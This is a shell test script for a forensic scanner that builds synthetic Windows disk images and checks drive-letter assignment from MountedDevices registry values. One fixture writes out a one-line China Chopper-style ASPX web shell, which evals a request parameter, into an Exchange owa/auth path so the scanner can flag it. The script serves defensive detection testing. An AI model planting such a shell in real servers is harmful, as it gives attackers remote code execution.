#!/bin/sh
# Drive letters as the server itself assigned them: the values of
# SYSTEM\MountedDevices (MBR disk signature + partition offset, GPT
# partition GUID) letter every volume of every given disk, whatever the
# partition order; --letter still overrides; hostile values are notes.
# Exchange lives on E:\Exchange (fixture e2019-cu12-edrive), so ExSetup.exe
# is found only when E: is the right volume.
. "$TOP/tests/lib/tap.sh"

H="$TOP/tests/fixtures/hosts/e2019-cu12-edrive"
D="$TMP/parts"
SIG1=0x1234abcd
SIG2=0x2468ace0
# Disk signatures and offsets as MountedDevices stores them (little-endian).
SIG1_LE='cd,ab,34,12'
SIG2_LE='e0,ac,68,24'
OFF_1M='00,00,10,00,00,00,00,00'		# 1048576 (sector 2048)
OFF_9M='00,00,90,00,00,00,00,00'		# 9437184 (sector 18432)
OFF_25M='00,00,90,01,00,00,00,00'	# 26214400 (sector 51200)
GUID_SYS='01234567-89ab-cdef-0011-223344556677'
GUID_EX='fedcba98-7654-3210-8899-aabbccddeeff'
DMIO='44,4d,49,4f,3a,49,44,3a'
GUID_SYS_W="$DMIO,67,45,23,01,ab,89,ef,cd,00,11,22,33,44,55,66,77"
GUID_EX_W="$DMIO,98,ba,dc,fe,54,76,10,32,88,99,aa,bb,cc,dd,ee,ff"

has() {	# has FILE TEXT
	grep -qF -- "$2" "$1"
}

# hives NAME LINES...: SYSTEM hive $D/NAME from the fixture's system.spec
# plus the given MountedDevices lines.
hives() {
	n=$1
	shift
	{ cat "$H/system.spec"; printf '%s\n' "$@"; } >"$D/$n.spec" &&
	"$TOOLS/mkhive" "$D/$n.spec" "$D/$n"
}

# system_lines HIVE: the spec lines of the system volume.
system_lines() {
	printf '%s\n' "file \\Windows\\System32\\config\\SYSTEM from:$1" \
	    'file \Windows\System32\config\SOFTWARE from:SOFTWARE' \
	    'file \Windows\System32\inetsrv\config\applicationHost.config from:applicationHost.config'
}

exch_lines() {
	printf '%s\n' 'file \Exchange\Bin\ExSetup.exe from:ExSetup.exe'
}

# attacked_lines: a China Chopper page and a ProxyLogon HttpProxy log on the
# Exchange volume (the logs from mklogs, in $D/logs; from: is relative to
# the spec in $D).
attacked_lines() {
	printf 'file \\Exchange\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx text:%s\n' \
	    '<script language="JScript" runat="server">function Page_Load(){eval(Request["pw"],"unsafe");}</script>\r\n'
	printf 'file \\Exchange\\Logging\\HttpProxy\\Ecp\\HttpProxy_2021030306-1.LOG from:%s\n' \
	    "logs/Exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG"
}

# scan_e WHAT ARGS...: a full scan; the shell on E: is an alert, the
# HttpProxy log on E: was analysed, the verdict comes from ExSetup.exe on E:.
scan_e() {
	what=$1
	shift
	# Each call is a new run: --out refuses an earlier run's folder.
	rm -rf "$TMP/s-out"
	run scan --out "$TMP/s-out" "$@"
	[ "$RC" -eq 1 ] &&
	    grep '"path":"E:\\\\Exchange\\\\FrontEnd\\\\HttpProxy\\\\owa\\\\auth\\\\x.aspx"' \
	    "$TMP/s-out/findings.jsonl" | grep -q '"level":"alert"'
	ok $? "$what: the shell in E:/Exchange/.../owa/auth is an alert"
	grep -q 'E:\\\\Exchange\\\\Logging\\\\HttpProxy\\\\Ecp\\\\HttpProxy_2021030306-1.LOG.*CVE-2021-26855' \
	    "$TMP/s-out/findings.jsonl"
	ok $? "$what: the ProxyLogon requests in the HttpProxy log on E: are findings"
	grep -q '^patch: ProxyNotShell: fixed.*15.2.1118.20' "$TMP/s-out/summary.txt"
	ok $? "$what: the verdict comes from ExSetup.exe on E:"
}

# profile_e WHAT ARGS...: exhume profile --json; ExSetup.exe read from
# E:\Exchange proves E: is the Exchange volume.
profile_e() {
	what=$1
	shift
	run profile --json "$@"
	[ "$RC" -eq 0 ] && has "$TMP/out" '"exsetup_build":"15.2.1118.20"'
	ok $? "$what: ExSetup.exe read from E:\\Exchange"
}

mkdir -p "$D"
"$TOOLS/mklogs" "$D/logs" >/dev/null &&
"$TOOLS/mkhive" "$H/software.spec" "$D/SOFTWARE" &&
"$TOOLS/mkpe" "$(cat "$H/exsetup.version")" "$D/ExSetup.exe" &&
cp "$H/applicationHost.config" "$D/"
ok $? "fixture parts built"

# (a) MBR, system first: partition 1 is C:, partition 2 is E:.
hives mbr "binary \\MountedDevices \\DosDevices\\C:=hex:$SIG1_LE,$OFF_1M" \
    "binary \\MountedDevices \\DosDevices\\E:=hex:$SIG1_LE,$OFF_25M" \
    'binary \MountedDevices \??\Volume{11111111-2222-3333-4444-555555555555}=hex:01,02,03'
{
	echo "disk mbr size=40M id=$SIG1"
	echo "part ntfs start=2048 size=24M label=SYSTEM"
	system_lines mbr
	echo "part ntfs start=51200 size=8M label=EXCH"
	exch_lines
} >"$D/a.spec"
mkimage "$D/a.spec" "$TMP/a.img"
ok $? "MBR image built"
IMAGES="$TMP/a.img"
run sources --json "$TMP/a.img"
has "$TMP/out" '"table_id":"1234abcd","part_guid":""'
ok $? "sources --json: the MBR disk signature of each partition"
profile_e "MBR, letters from MountedDevices (no --letter)" "$TMP/a.img"
has "$TMP/err" 'a.img: partition 2: drive letter E: from MountedDevices (MBR disk 1234abcd at offset 26214400)'
ok $? "MBR: the note names MountedDevices, the signature and the offset"
has "$TMP/err" 'a.img: partition 1: drive letter C: from MountedDevices'
ok $? "MBR: the system volume is C: from MountedDevices"
! grep -q 'Volume{' "$TMP/err"
ok $? "MBR: \\??\\Volume{...} values are not drive letters: no note"

run scan --no-logs --out "$TMP/a-out" "$TMP/a.img"
has "$TMP/a-out/acquisition.json" '"letter":"E","letter_source":"MountedDevices"'
ok $? "acquisition.json: partition 2 is E: from MountedDevices"
has "$TMP/a-out/acquisition.json" '"table_id":"1234abcd"'
ok $? "acquisition.json: the partition's table identity is recorded"

# (e) --letter overrides MountedDevices.
run profile --json --letter 2=F "$TMP/a.img"
has "$TMP/err" 'a.img: partition 2: drive letter F: from --letter' &&
    ! has "$TMP/out" '"exsetup_build":"15.2.1118.20"'
ok $? "--letter 2=F wins over MountedDevices' E: (ExSetup.exe not on E:)"
run profile --json --letter 1=E "$TMP/a.img"
has "$TMP/err" 'a.img: partition 2: MountedDevices names it E:, but --letter gives E: to volume 1' &&
    has "$TMP/err" 'a.img: partition 2: drive letter D: by default order, a guess'
ok $? "--letter 1=E: partition 2 loses E:, keeps a default letter, said to be a guess"
run profile --json --letter 1=E,2=E "$TMP/a.img"
[ "$RC" -ne 0 ] && has "$TMP/err" '--letter: E: given to volumes 1 and 2'
ok $? "--letter giving one letter to two volumes is a usage error"

# (b) GPT: partition GUIDs.
hives gpt "binary \\MountedDevices \\DosDevices\\C:=hex:$GUID_SYS_W" \
    "binary \\MountedDevices \\DosDevices\\E:=hex:$GUID_EX_W"
{
	echo "disk gpt size=40M"
	echo "part ntfs start=2048 size=24M label=SYSTEM guid=$GUID_SYS"
	system_lines gpt
	echo "part ntfs start=51200 size=8M label=EXCH guid=$GUID_EX"
	exch_lines
} >"$D/b.spec"
mkimage "$D/b.spec" "$TMP/b.img"
ok $? "GPT image built"
IMAGES="$TMP/b.img"
run sources --json "$TMP/b.img"
has "$TMP/out" "\"part_guid\":\"$GUID_EX\""
ok $? "sources --json: the GPT partition GUID"
profile_e "GPT, letters from MountedDevices" "$TMP/b.img"
has "$TMP/err" "b.img: partition 2: drive letter E: from MountedDevices (GPT partition {$GUID_EX})"
ok $? "GPT: the note names the partition GUID (Windows byte order decoded)"

# (c) partition order differs from letter order: E: first on disk.
hives swap "binary \\MountedDevices \\DosDevices\\E:=hex:$SIG1_LE,$OFF_1M" \
    "binary \\MountedDevices \\DosDevices\\C:=hex:$SIG1_LE,$OFF_9M"
{
	echo "disk mbr size=40M id=$SIG1"
	echo "part ntfs start=2048 size=8M label=EXCH"
	exch_lines
	attacked_lines
	echo "part ntfs start=18432 size=24M label=SYSTEM"
	system_lines swap
} >"$D/c.spec"
mkimage "$D/c.spec" "$TMP/c.img"
ok $? "image with the data partition first built"
IMAGES="$TMP/c.img"
profile_e "data partition first, system second" "$TMP/c.img"
has "$TMP/err" 'c.img: partition 1: drive letter E: from MountedDevices' &&
    has "$TMP/err" 'c.img: partition 2: drive letter C: from MountedDevices'
ok $? "partition 1 is E:, partition 2 is C:"
run scan --no-logs --out "$TMP/c-out" "$TMP/c.img"
has "$TMP/c-out/report.html" 'MountedDevices'
ok $? "report: the volume table says where the letters came from"
scan_e "data partition first" "$TMP/c.img"

# (d) two disks as two image files: system on disk 1, Exchange on disk 2.
hives two "binary \\MountedDevices \\DosDevices\\C:=hex:$SIG1_LE,$OFF_1M" \
    "binary \\MountedDevices \\DosDevices\\E:=hex:$SIG2_LE,$OFF_1M"
{
	echo "disk mbr size=32M id=$SIG1"
	echo "part ntfs start=2048 size=24M label=SYSTEM"
	system_lines two
} >"$D/d1.spec"
{
	echo "disk mbr size=16M id=$SIG2"
	echo "part ntfs start=2048 size=8M label=EXCH"
	exch_lines
	attacked_lines
} >"$D/d2.spec"
mkimage "$D/d1.spec" "$TMP/d1.img" && mkimage "$D/d2.spec" "$TMP/d2.img"
ok $? "two-disk images built"
IMAGES="$TMP/d1.img $TMP/d2.img"
profile_e "two disks, E: on the second" "$TMP/d2.img" "$TMP/d1.img"
has "$TMP/err" 'd2.img: partition 1: drive letter E: from MountedDevices (MBR disk 2468ace0 at offset 1048576)'
ok $? "two disks: the second disk's partition is E: by its own signature"
scan_e "two disks" "$TMP/d1.img" "$TMP/d2.img"

# (f) hostile values: wrong sizes, two letters for one partition, letters
# outside C..Z, a control character in a name.  (Two values for one letter
# cannot be built: hivex matches value names without case; the decoder's
# unit test covers the rule.)
ESC=$(printf '\033')
hives bad "binary \\MountedDevices \\DosDevices\\F:=hex:$SIG1_LE,$OFF_25M" \
    "binary \\MountedDevices \\DosDevices\\E:=hex:$SIG1_LE,$OFF_25M" \
    "binary \\MountedDevices \\DosDevices\\A:=hex:$SIG1_LE,$OFF_1M" \
    'binary \MountedDevices \DosDevices\G:=hex:01,02,03,04,05' \
    "binary \\MountedDevices \\DosDevices\\H:=hex:$SIG1_LE,$OFF_1M,00" \
    'binary \MountedDevices \DosDevices\I:=hex:5f,00,3f,00,3f,00,5f,00,55,00,53,00,42,00' \
    "binary \\MountedDevices \\DosDevices\\J:=hex:44,4d,49,4f,3a,49,44,3b,$SIG1_LE,$OFF_1M,00,00,00,00" \
    "binary \\MountedDevices \\DosDevices\\KK:=hex:$SIG1_LE,$OFF_1M" \
    "binary \\MountedDevices \\DosDevices\\$ESC:=hex:$SIG1_LE,$OFF_1M"
{
	echo "disk mbr size=40M id=$SIG1"
	echo "part ntfs start=2048 size=24M label=SYSTEM"
	system_lines bad
	echo "part ntfs start=51200 size=8M label=EXCH"
	exch_lines
} >"$D/f.spec"
mkimage "$D/f.spec" "$TMP/f.img"
ok $? "image with hostile MountedDevices values built"
IMAGES="$TMP/f.img"
profile_e "hostile values around a good E:" "$TMP/f.img"
has "$TMP/err" 'f.img: partition 2: named by 2 drive letters in MountedDevices: the lowest, E:, is used'
ok $? "hostile: two letters for one partition: the lowest wins, noted"
has "$TMP/err" 'MountedDevices: \DosDevices\A:: letter outside C..Z: ignored'
ok $? "hostile: A: is outside C..Z, noted"
has "$TMP/err" '\DosDevices\G:: 5 bytes of data' &&
    has "$TMP/err" '\DosDevices\H:: 13 bytes of data' &&
    has "$TMP/err" '\DosDevices\J:: 24 bytes of data'
ok $? "hostile: wrong sizes and a forged GPT marker are notes"
has "$TMP/err" '\DosDevices\I:: a device path'
ok $? "hostile: a removable-media device path is noted, not a partition"
has "$TMP/err" '\DosDevices\KK:: not a drive letter name'
ok $? "hostile: a malformed name is noted"
has "$TMP/err" '\DosDevices\\x1B:: letter outside C..Z' &&
    ! grep -q "$ESC" "$TMP/err"
ok $? "hostile: a control character in a name is escaped, never raw"
has "$TMP/err" 'f.img: partition 1: drive letter C: by default order, a guess (not named in MountedDevices)'
ok $? "hostile: the system partition, not named, keeps a guessed C:"

# A partition image has no table identity: its letter is a guess.
{
	echo "disk none"
	echo "part ntfs start=0 size=24M label=SYSTEM"
	system_lines mbr
} >"$D/p.spec"
mkimage "$D/p.spec" "$TMP/p.img"
IMAGES="$TMP/p.img"
run profile --json "$TMP/p.img"
has "$TMP/err" 'p.img: partition 0: drive letter C: by default order, a guess (no partition table identity (a partition image))'
ok $? "partition image: C: is a guess, and the note says why"

report_unchanged
# Two Windows installations on one disk (an old system disk kept on the
# server): the first one's registry letters the volumes; the run says so.
{
	echo "disk gpt size=64M"
	echo "part ntfs start=2048 size=24M label=NEW"
	system_lines mbr
	echo "part ntfs start=53248 size=8M label=OLD"
	system_lines mbr
} >"$D/twosys.spec"
mkimage "$D/twosys.spec" "$TMP/twosys.img"
IMAGES="$TMP/twosys.img"
run scan --no-logs --out "$TMP/t-out" "$TMP/twosys.img"
has "$TMP/err" 'volume 2 holds a second Windows installation'
ok $? "a second Windows installation is named; letters and profile come from the first"

done_testing
